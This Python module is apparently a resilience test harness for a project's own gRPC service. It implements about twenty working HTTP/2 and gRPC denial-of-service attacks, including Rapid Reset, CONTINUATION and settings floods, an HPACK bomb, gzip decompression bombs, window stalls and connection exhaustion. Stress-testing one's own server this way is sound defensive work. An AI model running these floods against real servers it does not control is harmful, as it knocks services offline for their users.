"""
What somebody does to the gRPC port who means no good: each attack is a function of the port and a scale from 0 to 1.

None of them ends by the server's goodwill: each has a number of steps and a time, and leaves its connections closed.
"""

from __future__ import annotations

import asyncio
import gzip
import itertools
import os
import random
import resource
import struct
from collections import Counter
from dataclasses import dataclass
from typing import TYPE_CHECKING, Final

from bench.abuse import wire as http2
from bench.abuse.wire import Wire, close_all, frame, head_of, message
from qc_adapter.v1 import events_pb2, sessions_pb2

if TYPE_CHECKING:
    from collections.abc import Awaitable, Callable

GET: Final = "/qc_adapter.v1.InspectorSessions/Get"
LIST: Final = "/qc_adapter.v1.InspectorSessions/List"
WATCH: Final = "/qc_adapter.v1.InspectorEvents/Watch"
REFLECT: Final = "/grpc.reflection.v1alpha.ServerReflection/ServerReflectionInfo"
_GET: Final = sessions_pb2.GetRequest(agent_id="101").SerializeToString()
_BATCH: Final = 100


@dataclass(frozen=True, slots=True)
class Port:
    """Where to, and how much of it."""

    host: str
    number: int
    scale: float
    hold_seconds: float

    def times(self, number: int) -> int:
        """Return how often at this scale."""
        return max(2, round(number * self.scale))

    async def wire(self, **how: object) -> Wire:
        """Open a connection."""
        return await Wire.open(self.host, self.number, **how)  # type: ignore[arg-type]

    async def wires(self, number: int, **how: object) -> list[Wire]:
        """Open some, a hundred at a time."""
        found: list[Wire] = []
        for start in range(0, number, _BATCH):
            part = [self.wire(**how) for _ in range(min(_BATCH, number - start))]
            found += [one for one in await asyncio.gather(*part, return_exceptions=True) if isinstance(one, Wire)]
        return found


Seen = Counter[str]


async def _flood(port: Port, steps: int, make: Callable[[Wire], bytes], **how: object) -> Seen:
    """Send as fast as it goes, on a new connection whenever one is closed, then look what came back."""
    seen: Seen = Counter()
    sent = 0
    while sent < steps:
        wire = await port.wire(**how)
        seen["connections"] += 1
        while sent < steps:
            sent += _BATCH
            if not await wire.send(b"".join(make(wire) for _ in range(_BATCH))):
                break
            await asyncio.sleep(0)  # let the answers in
        await wire.rest(0.3)
        seen["closed by the server"] += wire.closed.is_set()
        await wire.close()
        seen += wire.seen
    seen["sent"] = sent
    return seen


async def _held(port: Port, wires: list[Wire], frames: Callable[[Wire], bytes]) -> Seen:
    """Send the same on every connection, keep them open for a while, then look what came back."""
    await asyncio.gather(*(one.send(frames(one)) for one in wires))
    await asyncio.sleep(port.hold_seconds)
    seen = _all(wires)
    await close_all(wires)
    return seen


def _all(wires: list[Wire]) -> Seen:
    seen: Seen = Counter()
    for one in wires:
        seen += one.seen
    seen["connections"] = len(wires)
    seen["closed by the server"] = sum(one.closed.is_set() for one in wires)
    return seen


async def rapid_reset(port: Port) -> Seen:
    """Begin a call and take it back at once, again and again (CVE-2023-44487)."""

    def begun(wire: Wire) -> bytes:
        stream, head = wire.begin(head_of(GET))
        data = frame(http2.DATA, http2.END_STREAM, stream, message(_GET))
        return head + data + frame(http2.RST_STREAM, 0, stream, struct.pack(">I", 8))

    return await _flood(port, port.times(20_000), begun)


async def continuation_flood(port: Port) -> Seen:
    """A head that never ends (CVE-2024-27316)."""
    seen: Seen = Counter()
    block = os.urandom(16_000)
    for _ in range(port.times(20)):
        wire = await port.wire()
        stream, head = wire.begin(head_of(GET), flags=0)
        alive = await wire.send(head)
        for _ in range(port.times(200)):
            if not alive:
                break
            alive = await wire.send(frame(http2.CONTINUATION, 0, stream, b"\x00\x04abcd" + b"\x7f\x81\x7c" + block))
            await asyncio.sleep(0)
        await wire.rest(0.5)
        seen += _all([wire])
        await wire.close()
    return seen


async def many_headers(port: Port) -> Seen:
    """Thousands of small headers in one head."""
    more = [(f"x-{number}", "v") for number in range(port.times(5000))]
    return await _flood(
        port, port.times(1000), lambda wire: wire.call(GET, _GET, more if wire.seen.total() < 5 else [])
    )


async def huge_metadata(port: Port) -> Seen:
    """One header of a megabyte."""
    seen: Seen = Counter()
    for _ in range(port.times(50)):
        wire = await port.wire()
        await wire.send(wire.call(GET, _GET, [("x-big", "y" * (1 << 20))]))
        await wire.rest(0.2)
        seen += _all([wire])
        await wire.close()
    return seen


async def packed_headers(port: Port) -> Seen:
    """A header of 4 kB in the table of the connection, named a thousand times by one byte each (HPACK bomb)."""
    seen: Seen = Counter()
    for _ in range(port.times(20)):
        wire = await port.wire()
        await wire.send(wire.call(GET, _GET, [("x-bomb", "z" * 3900)]))
        for _ in range(port.times(50)):
            if not await wire.send(wire.call(GET, _GET, [("x-bomb", "z" * 3900)] * 4000)):
                break
            await asyncio.sleep(0)
        await wire.rest(0.3)
        seen += _all([wire])
        await wire.close()
    return seen


async def window_stall(port: Port) -> Seen:
    """Many calls whose answers are never let out: a window of 0, and no more of it."""
    stalled = [(http2.INITIAL_WINDOW_SIZE, 0)]
    wires = await port.wires(port.times(50), settings=stalled)
    calls = port.times(100)
    return await _held(port, wires, lambda wire: b"".join(wire.call(LIST) for _ in range(calls)))


async def slow_watches(port: Port) -> Seen:
    """Watches that read nothing, while events come."""
    wires = await port.wires(port.times(20), settings=[(http2.INITIAL_WINDOW_SIZE, 64)])
    request = events_pb2.WatchRequest(agent_id="102", cursor="oldest").SerializeToString()
    watches = port.times(50)
    return await _held(port, wires, lambda wire: b"".join(wire.call(WATCH, request) for _ in range(watches)))


async def idle_connections(port: Port) -> Seen:
    """Ten thousand connections that say hello and nothing more."""
    wires = await port.wires(port.times(10_000))
    return await _held(port, wires, lambda _: b"")


async def half_handshakes(port: Port) -> Seen:
    """Connections that never say hello, or only half of it."""
    wires = await port.wires(port.times(2000), greets=False, answers=False)
    halves = itertools.cycle([b"", http2.PREFACE[:12], http2.PREFACE])
    return await _held(port, wires, lambda _: next(halves))


async def ping_flood(port: Port) -> Seen:
    """Pings without a pause."""
    return await _flood(port, port.times(50_000), lambda _: frame(http2.PING, 0, 0, b"12345678"))


async def settings_flood(port: Port) -> Seen:
    """Settings without a pause, each of which has to be answered (CVE-2019-9515)."""
    settings = frame(http2.SETTINGS, 0, 0, struct.pack(">HI", 3, 100))
    return await _flood(port, port.times(50_000), lambda _: settings)


async def empty_frames(port: Port) -> Seen:
    """Frames of data without any (CVE-2019-9518)."""

    def empty(wire: Wire) -> bytes:
        stream, head = wire.begin(head_of(GET))
        return head + frame(http2.DATA, 0, stream) * 100

    return await _flood(port, port.times(2000), empty)


async def oversized_frames(port: Port) -> Seen:
    """Frames longer than the server allows, some of which never end."""
    wires = await port.wires(port.times(100))
    data = b"x" * 100_000
    return await _held(port, wires, lambda _: frame(http2.DATA, 0, 1, data, says=(1 << 24) - 1))


async def garbage(port: Port) -> Seen:
    """Anything but frames, after the preface and instead of it. The same bytes each time."""
    chance = random.Random(7)  # noqa: S311 - a repeatable choice
    wires = await port.wires(port.times(200))
    wires += await port.wires(port.times(200), greets=False, answers=False)
    return await _held(port, wires, lambda _: chance.randbytes(2000))


async def http_1(port: Port) -> Seen:
    """A web browser."""
    wires = await port.wires(port.times(500), greets=False, answers=False)
    return await _held(port, wires, lambda _: b"GET / HTTP/1.1\r\nHost: localhost\r\n\r\n")


async def lying_lengths(port: Port) -> Seen:
    """Messages that are shorter, or never come, as their length says; and one that says more than is allowed."""
    wires = await port.wires(port.times(20))
    calls = port.times(100)

    def lies(wire: Wire) -> bytes:
        found = []
        for number in range(calls):
            stream, head = wire.begin(head_of(GET))
            says = (0xFFFFFFFF, 250_000, 250_000, 1)[number % 4]
            ends = http2.END_STREAM if number % 4 > 1 else 0
            found += [head, frame(http2.DATA, ends, stream, message(_GET, says=says))]
        return b"".join(found)

    return await _held(port, wires, lies)


async def packed_bombs(port: Port) -> Seen:
    """Messages of 60 kB that unpack to 64 MB."""
    bomb = gzip.compress(bytes(port.times(64) << 20))
    wires = await port.wires(port.times(4))

    def bombs(wire: Wire) -> bytes:
        stream, head = wire.begin(head_of(GET, [("grpc-encoding", "gzip")]))
        body = message(bomb, packed=True)
        parts = [body[start : start + 16_384] for start in range(0, len(body), 16_384)]
        return head + b"".join(
            frame(http2.DATA, http2.END_STREAM if place == len(parts) - 1 else 0, stream, part)
            for place, part in enumerate(parts)
        )

    for _ in range(port.times(50)):
        await asyncio.gather(*(one.send(bombs(one)) for one in wires))
        await asyncio.sleep(0.02)
    return await _held(port, wires, lambda _: b"")


async def odd_deadlines(port: Port) -> Seen:
    """Deadlines that are none."""
    odd = ["", "0n", "-1S", "99999999H", "999999999H", "1", "S", "1x", "1.5S", "nan", "1S,2S", " 1S", "1 S", "0x1S",
           "\uff11S".encode().decode("latin-1"), "1" * 5000 + "S"]  # fmt: skip
    chance = random.Random(7)  # noqa: S311 - a repeatable choice
    return await _flood(
        port, port.times(3000), lambda wire: wire.call(GET, _GET, [("grpc-timeout", chance.choice(odd))])
    )


async def unknown_methods(port: Port) -> Seen:
    """Names of methods that there are not, each another one."""
    chance = random.Random(7)  # noqa: S311 - a repeatable choice
    places = ("/qc_adapter.v1.InspectorSessions/", "/qc_adapter.v1.", "/", "/grpc.health.v1.Health/")
    return await _flood(
        port, port.times(5000), lambda wire: wire.call(f"{chance.choice(places)}{chance.getrandbits(64):x}")
    )


async def long_paths(port: Port) -> Seen:
    """Names of methods that are 4 to 12 kB long."""
    chance = random.Random(7)  # noqa: S311 - a repeatable choice
    return await _flood(
        port,
        port.times(2000),
        lambda wire: wire.call(f"/qc_adapter.v1.InspectorSessions/{'G' * chance.randint(4000, 12_000)}"),
    )


async def reflection(port: Port) -> Seen:
    """Questions to the reflection service, whose answers are hundreds of times as long, and nobody reads them."""
    wires = await port.wires(port.times(20), settings=[(http2.INITIAL_WINDOW_SIZE, 1)])
    name = b"qc_adapter/v1/quality_control.proto"
    question = b"\x1a" + bytes([len(name)]) + name
    asked = message(question) * port.times(200)

    def questions(wire: Wire) -> bytes:
        stream, head = wire.begin(head_of(REFLECT))
        return head + frame(http2.DATA, 0, stream, asked)

    return await _held(port, wires, questions)


ATTACKS: Final[dict[str, Callable[[Port], Awaitable[Seen]]]] = {
    one.__name__: one
    for one in (
        rapid_reset,
        continuation_flood,
        many_headers,
        huge_metadata,
        packed_headers,
        window_stall,
        slow_watches,
        reflection,
        idle_connections,
        half_handshakes,
        ping_flood,
        settings_flood,
        empty_frames,
        oversized_frames,
        garbage,
        http_1,
        lying_lengths,
        packed_bombs,
        odd_deadlines,
        unknown_methods,
        long_paths,
    )
}


def raise_descriptors() -> int:
    """Allow this process as many descriptors as it may have; return how many."""
    _, most = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
    return most
